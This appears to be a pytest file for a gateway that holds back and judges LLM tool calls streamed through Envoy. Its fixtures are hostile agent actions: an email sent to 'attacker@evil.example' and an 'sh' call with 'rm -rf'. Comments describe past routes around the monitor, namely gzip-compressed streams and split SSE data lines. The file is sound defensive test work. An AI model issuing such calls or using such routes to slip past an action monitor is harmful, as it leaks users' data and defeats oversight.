"""A live-streamed reply's tool calls behind Envoy: on a route with a tool gate, the events pass as they come until
one carries a tool call; from there they are kept back, the calls judged whole at the end, and what the gate keeps
sent (as the HTTP relay does: tests/gateway/test_actions.py). Upstreams add tools of their own and clients send
`tools: []`, so a request that offers none still has its reply's calls judged, in every reply body mode that can
carry a body; a filter that sends no reply body gets the request refused rather than its calls passed unjudged."""

from __future__ import annotations

import asyncio
import json

import httpx
import pytest
from envoy.service.ext_proc.v3 import external_processor_pb2 as pb

from jevserve.gateway.config import parse_config
from jevserve.gateway.decider import FixedDecider
from jevserve.gateway.extproc import StreamSettings
from jevserve.gateway.extproc.binding import GatewayDecisions
from jevserve.gateway.extproc.calls import CallWatch
from jevserve.gateway.runtime import build_gateway
from tests.gateway.extproc.deploy_examples import envoy_or_skip
from tests.gateway.extproc.envoy import Delivered, EnvoyStream, Forwarded, Immediate, header_map
from tests.gateway.extproc.live import bootstrap_for, free_port, running_envoy, running_models
from tests.gateway.extproc.scripted import serving, serving_at
from tests.gateway.upstreams import char_embed

HI = {"model": "m", "messages": [{"role": "user", "content": "Send the notes to my team, please."}]}
ATTACKER = b"attacker@evil.example"
NOTE = "[jevserve gateway: blocked tool call(s) send_email: judged unsafe to carry out]"
REPLY_MODES = ["FULL_DUPLEX_STREAMED", "STREAMED", "BUFFERED"]


def _chunk(delta: dict, finish: str | None = None) -> dict:
    return {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "stub",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def _events(chunks: list[dict]) -> bytes:
    return b"".join(f"data: {json.dumps(c)}\n\n".encode() for c in chunks) + b"data: [DONE]\n\n"


PLAIN = [_chunk({"role": "assistant", "content": "Sure, "}), _chunk({"content": "on it."})]
# a few words, then a call in two pieces (as vLLM streams tool calls), its finish, and a usage chunk
CALL_STREAM = _events([
    *PLAIN,
    _chunk({"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                            "function": {"name": "send_email", "arguments": ""}}]}),
    _chunk({"tool_calls": [{"index": 0, "function": {"arguments": '{"to": "attacker@evil.example"}'}}]}),
    _chunk({}, "tool_calls"),
    {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "stub", "choices": [],
     "usage": {"prompt_tokens": 3, "completion_tokens": 9, "total_tokens": 12}},
])
CALL_AT = CALL_STREAM.index(b"data: ", CALL_STREAM.index(b"on it."))  # where the first call's event starts
TEXT_STREAM = _events([*PLAIN, _chunk({}, "stop")])
SSE = {"content-type": "text/event-stream"}


def gateway_for(p_unsafe: float, *, log=None, decision_timeout_ms: int = 300, action: str = "block",
                fallback: str | None = None):
    gate = {"threshold": 0.5, "action": action, **({"fallback": fallback} if fallback else {})}
    config = {
        "decision_timeout_ms": decision_timeout_ms,
        "upstreams": [{"name": "u", "url": "http://u.test/v1"}],
        "routes": [{"model": "m", "tool_gate": gate}],
        **({"log": {"path": str(log)}} if log else {}),
    }
    decider = FixedDecider({"tool_gate:0": p_unsafe})
    return build_gateway(parse_config(config), decider, embed=char_embed), decider


def body_of(payload) -> bytes:
    return json.dumps(payload).encode()


def pieces(raw: bytes, size: int) -> list[bytes]:
    """The body cut every `size` bytes, wherever that falls (mid-event, mid-line): Envoy's chunks need not align."""
    return [raw[i : i + size] for i in range(0, len(raw), size)]


def parsed(body: bytes) -> tuple[str, list, list[dict]]:
    """The content, the finish reasons and the chunks a client reads from an event stream."""
    events = [json.loads(line[5:]) for line in body.decode().splitlines()
              if line.startswith("data:") and "[DONE]" not in line]  # fmt: skip
    text = "".join((c.get("delta") or {}).get("content") or "" for e in events for c in e.get("choices") or [])
    finishes = [c["finish_reason"] for e in events for c in e.get("choices") or [] if c.get("finish_reason")]
    return text, finishes, events


def run(coro):
    return asyncio.run(coro)


@pytest.mark.parametrize("reply_mode", REPLY_MODES)
@pytest.mark.parametrize("tools", [None, []])
@pytest.mark.parametrize("p_unsafe", [0.9, 0.1])
def test_a_live_stream_to_a_request_without_tools_still_has_its_tool_calls_gated(
    tmp_path, reply_mode: str, tools, p_unsafe: float
) -> None:
    log = tmp_path / "decisions.jsonl"
    gateway, decider = gateway_for(p_unsafe, log=log)
    body = {**HI, "stream": True, "stream_options": {"include_usage": True}}

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", reply_mode)
            sent = await stream.request(body_of(body if tools is None else {**body, "tools": tools}))
            got = await stream.respond(200, SSE, pieces(CALL_STREAM, 37))
            await stream.finish()
        await asyncio.sleep(0.05)
        return sent, got

    sent, got = run(scenario())
    assert isinstance(sent, Forwarded) and json.loads(sent.body)["stream"] is True  # streamed live, not asked whole
    assert isinstance(got, Delivered), got
    assert "Agent action: send_email" in decider.states[-1]
    (line,) = [json.loads(x) for x in log.read_text().splitlines()]
    assert [v["action"] for v in line["tool_gate"]] == ["block" if p_unsafe > 0.5 else "allow"]
    assert line["tool_calls"] == [{"id": "call_1", "type": "function",
                                   "function": {"name": "send_email", "arguments": '{"to": "attacker@evil.example"}'}}]
    if p_unsafe > 0.5:
        text, finishes, events = parsed(got.body)
        assert ATTACKER not in got.body and b'"tool_calls"' not in got.body
        assert text == f"Sure, on it.\n{NOTE}" and finishes == ["stop"]
        assert got.body.startswith(CALL_STREAM[:CALL_AT])  # what came before the call went out as it came
        assert events[-1]["usage"]["total_tokens"] == 12 and got.body.endswith(b"data: [DONE]\n\n")
    else:
        assert got.body == CALL_STREAM  # an allowed call arrives intact, as the upstream sent it


@pytest.mark.parametrize("reply_mode", REPLY_MODES)
@pytest.mark.parametrize("size", [1, 23, 10_000])
def test_a_reply_without_calls_streams_through_unchanged_and_is_never_judged(reply_mode: str, size: int) -> None:
    gateway, decider = gateway_for(0.99)  # a gate that would block any call it saw

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "BUFFERED", reply_mode)
            await stream.request(body_of({**HI, "stream": True, "tools": []}))
            got = await stream.respond(200, SSE, pieces(TEXT_STREAM, size))
            await stream.finish()
            return got

    got = run(scenario())
    assert isinstance(got, Delivered) and got.body == TEXT_STREAM
    assert not any("Agent action" in state for state in decider.states)


def test_in_duplex_mode_the_events_before_a_call_go_out_live_and_none_after_it_until_the_gate_has_judged() -> None:
    gateway, _ = gateway_for(0.9)
    call_event = CALL_STREAM.index(b"data: ", CALL_AT + 1)  # the call's second piece starts the next event

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED")
            await stream.request(body_of({**HI, "stream": True}))
            status = header_map({":status": "200", **SSE})
            await stream._send(response_headers=pb.HttpHeaders(headers=status))
            headers = await stream._read()  # answered at once: the stream is live
            out = []
            for piece in (CALL_STREAM[:20], CALL_STREAM[20:CALL_AT + 10], CALL_STREAM[CALL_AT + 10 : call_event]):
                await stream._send(response_body=pb.HttpBody(body=piece))
            async with asyncio.timeout(5):  # the events before the call, as they complete (its start is kept back)
                while sum(map(len, out)) < CALL_AT:
                    out.append(EnvoyStream._streamed((await stream._read()).response_body.response).body)
            live = b"".join(out)
            await asyncio.sleep(0.1)
            quiet = stream._answers.empty()  # nothing of the call went out
            await stream._send(response_body=pb.HttpBody(body=CALL_STREAM[call_event:], end_of_stream=True))
            while not (last := EnvoyStream._streamed((await stream._read()).response_body.response)).end_of_stream:
                out.append(last.body)
            out.append(last.body)
            await stream.finish()
            return headers, live, out, quiet

    headers, live, out, quiet = run(scenario())
    assert headers.WhichOneof("response") == "response_headers"
    assert live == CALL_STREAM[:CALL_AT] and quiet
    body = b"".join(out)
    assert ATTACKER not in body and parsed(body)[0] == f"Sure, on it.\n{NOTE}"


@pytest.mark.parametrize("reply_mode", REPLY_MODES)
@pytest.mark.parametrize("p_unsafe", [0.9, 0.1])
def test_a_flagged_streamed_call_is_told_in_a_comment_before_done_as_the_http_gateway_tells_it(
    reply_mode: str, p_unsafe: float
) -> None:
    """`tool_gate: {action: flag}` behind Envoy said nothing of a flagged call in a live stream (its headers left
    before the call was judged); the HTTP gateway says it in an SSE comment before `[DONE]`."""
    gateway, _ = gateway_for(p_unsafe, action="flag")

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", reply_mode)
            await stream.request(body_of({**HI, "stream": True, "stream_options": {"include_usage": True}}))
            got = await stream.respond(200, SSE, pieces(CALL_STREAM, 41))
            await stream.finish()
            return got

    got = run(scenario())
    assert isinstance(got, Delivered), got
    if p_unsafe < 0.5:
        assert got.body == CALL_STREAM  # nothing to tell: the reply as the upstream sent it
        return
    assert got.body.endswith(b": x-jevserve-flagged: tool_call\n\ndata: [DONE]\n\n")
    text, finishes, events = parsed(got.body)  # the flagged call itself reaches the client whole
    assert text == "Sure, on it." and finishes == ["tool_calls"] and ATTACKER in got.body
    assert events[-1]["usage"]["total_tokens"] == 12


@pytest.mark.parametrize("reply_mode", ["FULL_DUPLEX_STREAMED", "STREAMED"])
def test_a_stream_that_breaks_while_calls_are_kept_back_sends_none_of_them(reply_mode: str) -> None:
    gateway, _ = gateway_for(0.1)  # the gate would allow the call: the stream's end is what matters
    cut = CALL_STREAM[: CALL_STREAM.index(b"data: [DONE]")]  # no [DONE]: the upstream closed early

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", reply_mode)
            await stream.request(body_of({**HI, "stream": True}))
            got = await stream.respond(200, SSE, pieces(cut, 50))
            await stream.finish()
            return got

    got = run(scenario())
    assert isinstance(got, Delivered) and ATTACKER not in got.body and b"send_email" not in got.body
    assert got.body.startswith(CALL_STREAM[:CALL_AT])
    error = json.loads(got.body[CALL_AT:].decode().removeprefix("data: "))["error"]
    assert "before [DONE]" in error["message"]


@pytest.mark.parametrize("reply_mode", REPLY_MODES)
def test_a_reply_ended_by_its_trailers_has_its_calls_judged_too(reply_mode: str) -> None:
    gateway, _ = gateway_for(0.9)

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", reply_mode)
            await stream.request(body_of({**HI, "stream": True}))
            got = await stream.respond(200, SSE, pieces(CALL_STREAM, 64), trailers={"grpc-status": "0"})
            await stream.finish()
            return got

    got = run(scenario())
    assert isinstance(got, Delivered) and ATTACKER not in got.body and got.body.startswith(CALL_STREAM[:CALL_AT])
    if reply_mode != "STREAMED":  # there every chunk was answered before the trailers: what was kept back is lost
        assert parsed(got.body)[0] == f"Sure, on it.\n{NOTE}" and got.body.endswith(b"data: [DONE]\n\n")


CALL = {"id": "call_1", "type": "function",
        "function": {"name": "send_email", "arguments": '{"to": "attacker@evil.example"}'}}
WHOLE_CALL_REPLY = {"id": "c", "object": "chat.completion", "created": 1, "model": "stub", "choices": [
    {"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [CALL]},
     "finish_reason": "tool_calls"}]}


def _reply_judged_too_slowly(gateway, decider, settings: StreamSettings, reply_mode: str, *, streamed: bool):
    """What the client gets of a reply carrying a call (a live stream, or one whole reply) when the tool gate's
    question, asked at the reply's end, is slower than the stream's deadline."""
    raw = CALL_STREAM if streamed else body_of(WHOLE_CALL_REPLY)
    headers = SSE if streamed else {"content-type": "application/json"}

    async def scenario():
        async with serving(GatewayDecisions(gateway), settings) as channel:
            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", reply_mode)
            await stream.request(body_of({**HI, "stream": streamed}))
            decider.delay_s = 2.0
            got = await stream.respond(200, headers, pieces(raw, 64))
            await stream.finish()
            return got

    return run(scenario())


@pytest.mark.parametrize("reply_mode", ["FULL_DUPLEX_STREAMED", "BUFFERED"])
def test_kept_back_calls_whose_judgement_runs_past_the_deadline_are_not_sent_when_failing_closed(
    reply_mode: str
) -> None:
    gateway, decider = gateway_for(0.1, decision_timeout_ms=5000)
    got = _reply_judged_too_slowly(gateway, decider, StreamSettings(deadline_s=0.2, failure="closed"), reply_mode,
                                   streamed=True)
    assert isinstance(got, Delivered) and ATTACKER not in got.body
    assert json.loads(got.body[CALL_AT:].decode().removeprefix("data: "))["error"]["code"] == "decisions_unavailable"


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize("fallback", ["closed", "open"])
def test_calls_whose_judgement_runs_past_the_deadline_take_the_gates_fallback_when_failing_open(
    streamed: bool, fallback: str, tmp_path
) -> None:
    # an outside tester's held reply, its tool gate past `--deadline-ms`, reached the client with its
    # delete_all_files call under `fallback: closed`, labelled `x-jevserve-decisions: none` and logged with no
    # tool-gate verdict: as the HTTP gateway does when its decider has no answer in time, each call now takes the
    # gate's fallback (closed: removed; open: sent, marked as a fallback)
    log = tmp_path / "decisions.jsonl"
    gateway, decider = gateway_for(0.1, decision_timeout_ms=5000, fallback=fallback, log=log)
    got = _reply_judged_too_slowly(gateway, decider, StreamSettings(deadline_s=0.2, failure="open"),
                                   "FULL_DUPLEX_STREAMED", streamed=streamed)
    assert isinstance(got, Delivered)
    if fallback == "closed":
        assert ATTACKER not in got.body
    else:
        assert ATTACKER in got.body
    if not streamed:  # the whole reply's headers are its own: they say the gate fell back
        shown = got.headers.get("x-jevserve-decisions", "")
        assert "tool_gate=" in shown and "!fallback" in shown, shown
    for _ in range(50):  # the log line is written after the stream ends
        if log.exists() and log.read_text().strip():
            break
        run(asyncio.sleep(0.05))
    (record,) = [json.loads(line) for line in log.read_text().splitlines()]
    (verdict,) = record["tool_gate"]
    assert verdict["action"] == ("block" if fallback == "closed" else "allow"), verdict
    assert "took over 200 ms" in record["upstream"]["tool_gate_undecided"]


def test_a_filter_that_sends_no_reply_body_gets_a_tool_gated_stream_refused_not_passed_unjudged() -> None:
    gateway, _ = gateway_for(0.9)

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            return await EnvoyStream(channel, "FULL_DUPLEX_STREAMED", "NONE").request(body_of({**HI, "stream": True}))

    got = run(scenario())
    assert isinstance(got, Immediate) and got.status == 500
    assert "response_body_mode" in json.loads(got.body)["error"]["message"]


@pytest.mark.parametrize("reply_mode", REPLY_MODES)
@pytest.mark.parametrize("p_unsafe", [0.9, 0.1])
def test_a_whole_reply_to_a_request_without_tools_has_its_calls_gated_too(reply_mode: str, p_unsafe: float) -> None:
    # the HTTP gateway gates every whole chat reply on a tool-gated route, whatever the request offered
    raw = body_of(WHOLE_CALL_REPLY)
    gateway, _ = gateway_for(p_unsafe)

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "BUFFERED", reply_mode)
            await stream.request(body_of(HI))
            got = await stream.respond(200, {"content-type": "application/json"}, pieces(raw, 40))
            await stream.finish()
            return got

    got = run(scenario())
    assert isinstance(got, Delivered)
    message = json.loads(got.body)["choices"][0]["message"]
    if p_unsafe > 0.5:
        assert ATTACKER not in got.body and message["content"] == NOTE
    else:
        assert message["tool_calls"] == [CALL]


@pytest.mark.parametrize("raw", [CALL_STREAM, CALL_STREAM.replace(b"\n", b"\r\n"), TEXT_STREAM])
def test_the_watch_keeps_back_the_same_bytes_wherever_the_body_is_cut(raw: bytes) -> None:
    call_at = raw.find(b"data: ", raw.find(b"on it."))
    call_at = call_at if b"tool_calls" in raw else len(raw)

    def passed(cuts: list[int]) -> int:
        watch, received, out = CallWatch(), 0, 0
        for start, end in zip([0, *cuts], [*cuts, len(raw)], strict=True):
            received += end - start
            out = max(out, received - watch.feed(raw[start:end]))
        return out

    assert passed([]) == call_at
    for cut in range(1, len(raw)):
        assert passed([cut]) == call_at
    assert passed(list(range(1, len(raw)))) == call_at


@pytest.mark.parametrize("mode", ["FULL_DUPLEX_STREAMED", "BUFFERED"])
def test_a_streamed_tool_call_through_a_live_envoy_is_judged_before_it_reaches_the_client(mode: str) -> None:
    envoy = envoy_or_skip()
    config = parse_config({
        "decision_timeout_ms": 300,
        "upstreams": [{"name": "small", "url": "http://small.test/v1"}],
        "routes": [{"model": "qwen3-0.6b", "tool_gate": {"threshold": 0.5}}],
    })
    decider = FixedDecider({"tool_gate:0": 0.9})
    decisions = GatewayDecisions(build_gateway(config, decider, embed=char_embed))
    ask = {"model": "qwen3-0.6b", "messages": HI["messages"], "stream": True}

    async def scenario():
        async with running_models("qwen3-0.6b", "qwen3-8b") as (models, ports), serving_at(decisions) as served:
            models["qwen3-0.6b"].streams_call = True
            listen = free_port()
            bootstrap = bootstrap_for(listen_port=listen, extproc_port=served[1], upstream_ports=ports, mode=mode)
            async with running_envoy(envoy, bootstrap, listen) as base, httpx.AsyncClient(base_url=base) as c:
                blocked = await c.post("/v1/chat/completions", json=ask)
                decider.answers["tool_gate:0"] = 0.1
                allowed = await c.post("/v1/chat/completions", json=ask)
                models["qwen3-0.6b"].streams_call = False
                plain = await c.post("/v1/chat/completions", json=ask)
            return blocked, allowed, plain

    blocked, allowed, plain = run(scenario())
    assert blocked.status_code == 200 and "rm -rf" not in blocked.text
    text, finishes, _ = parsed(blocked.content)
    assert text == "Running it.\n[jevserve gateway: blocked tool call(s) sh: judged unsafe to carry out]"
    assert finishes == ["stop"] and blocked.text.rstrip().endswith("data: [DONE]")
    assert allowed.text.count("rm -rf") == 1 and parsed(allowed.content)[1] == ["tool_calls"]
    assert parsed(plain.content)[0] == "Hello from qwen3-0.6b"


def test_the_upstream_is_asked_for_an_uncompressed_reply_and_a_compressed_one_is_refused_not_passed() -> None:
    # Envoy passed the client's Accept-Encoding on; a gzipped stream had no `data:` line to read and its calls went
    # to the client unjudged
    import gzip

    gateway, _ = gateway_for(0.9)

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", "FULL_DUPLEX_STREAMED")
            sent = await stream.request(body_of({**HI, "stream": True}), headers={"accept-encoding": "gzip, zstd"})
            got = await stream.respond(200, {**SSE, "content-encoding": "gzip"}, pieces(gzip.compress(CALL_STREAM), 50))
            await stream.finish()
        return sent, got

    sent, got = run(scenario())
    assert isinstance(sent, Forwarded) and sent.headers["accept-encoding"] == "identity"
    assert isinstance(got, (Immediate, Delivered)) and got.status == 502, got
    assert b"compressed (gzip)" in got.body and ATTACKER not in got.body


def test_a_payload_split_over_several_data_lines_is_read_as_the_client_joins_it() -> None:
    # valid SSE: the openai client joins an event's data lines; read line by line, each piece was malformed and the
    # call went through unjudged
    arguments = '{"to": "attacker@evil.example"}'
    call = _chunk({"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                   "function": {"name": "send_email", "arguments": arguments}}]})
    text = json.dumps(call, indent=1)  # a JSON value over many lines: one `data:` line each
    split = ("".join(f"data: {line}\n" for line in text.split("\n")) + "\n").encode()
    raw = _events(PLAIN)[: -len(b"data: [DONE]\n\n")] + split + _events([_chunk({}, "tool_calls")])
    gateway, _ = gateway_for(0.9)

    async def scenario():
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", "FULL_DUPLEX_STREAMED")
            await stream.request(body_of({**HI, "stream": True}))
            got = await stream.respond(200, SSE, pieces(raw, 29))
            await stream.finish()
        return got

    got = run(scenario())
    assert isinstance(got, Delivered) and ATTACKER not in got.body, got
    assert NOTE.encode() in got.body


def test_a_stream_read_as_it_passed_that_breaks_is_logged_as_the_http_gateway_logs_it(tmp_path) -> None:
    # cut before [DONE] (or carrying a malformed event), it was logged a clean 200
    log = tmp_path / "decisions.jsonl"
    cut = TEXT_STREAM[: -len(b"data: [DONE]\n\n")]
    malformed = cut + b"data: {not json\n\n"

    async def scenario(raw):
        gateway, _ = gateway_for(0.1, log=log)
        async with serving(GatewayDecisions(gateway)) as channel:
            stream = EnvoyStream(channel, "FULL_DUPLEX_STREAMED", "FULL_DUPLEX_STREAMED")
            await stream.request(body_of({**HI, "stream": True}))
            got = await stream.respond(200, SSE, pieces(raw, 40))
            await stream.finish()
        await asyncio.sleep(0.05)
        return got

    for raw in (cut, malformed):
        run(scenario(raw))
    lines = [json.loads(x) for x in log.read_text().splitlines()]
    assert [line["status"] for line in lines] == [502, 502]
    errors = [line["upstream"]["stream_error"] for line in lines]
    assert "before [DONE]" in errors[0] and "malformed" in errors[1]
